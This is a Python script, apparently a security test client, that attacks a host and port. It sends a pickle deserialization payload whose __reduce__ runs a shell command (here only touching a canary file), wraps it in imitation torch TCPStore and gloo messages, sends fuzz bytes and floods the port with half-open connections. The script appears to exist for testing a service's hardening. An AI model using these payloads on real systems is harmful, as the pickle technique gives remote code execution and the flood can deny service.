"""Attacks a port with hostile messages. Run as: python hostile_client.py HOST PORT CANARY

Payloads contain code that would create the file CANARY; nothing else is touched. Prints the number of attacks and all
received bytes in hexadecimal.
"""

import os
import pickle
import random
import socket
import struct
import sys
from contextlib import suppress

FLOOD = 300


class Payload:
    def __init__(self, canary: str):
        self.canary = canary

    def __reduce__(self):
        return os.system, (f"touch {self.canary}",)


def messages(canary: str) -> list[bytes]:
    payload = pickle.dumps(Payload(canary))
    text = struct.Struct("<Q")
    key = b"torch.rendezvous.job"
    # the protocol of torch's TCPStore: the client's greeting, then "set" of the elastic agent's state
    store = b"\x09" + struct.pack("<I", 0x3C85F7CE)
    setting = b"\x00" + text.pack(len(key)) + key + text.pack(len(payload)) + payload
    rng = random.Random(0)
    found = [
        payload,
        store + setting,
        store,
        setting,
        b"",
        b"\x00",
        b"\xff" * 4096,
        text.pack(1 << 62),
        b"GET / HTTP/1.0\r\n\r\n",
    ]
    found += [rng.randbytes(rng.choice((8, 64, 96, 1000, 100_000))) for _ in range(20)]
    found += [struct.pack("<Q", number) + payload for number in range(16)]  # gloo's connection numbers
    found += [struct.pack("!I", len(payload)) + payload + bytes(32)]
    return found


def send(address: tuple[str, int], message: bytes, timeout: float = 0.2) -> bytes:
    with suppress(OSError), socket.create_connection(address, timeout) as peer:
        peer.sendall(message)
        answer = peer.recv(4096)
        if answer.startswith(b"paceline rendezvous"):  # pretend to know the token
            peer.sendall(message.ljust(64, b"\0")[:64])
            return answer + peer.recv(4096)
        return answer
    return b""


def main() -> None:
    host, port, canary = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    address, received, count = (host, port), set(), 0
    half_open = []
    for _ in range(FLOOD):
        with suppress(OSError):
            half_open.append(socket.create_connection(address, 0.2 if half_open else 0.5))
        count += 1
        if not half_open and count == 10:  # nobody accepts
            break
    for message in messages(canary):
        received.add(send(address, message).hex())
        count += 1
    for peer in half_open:
        peer.close()
    print(count)
    for answer in sorted(received - {""}):
        print(answer)


main()
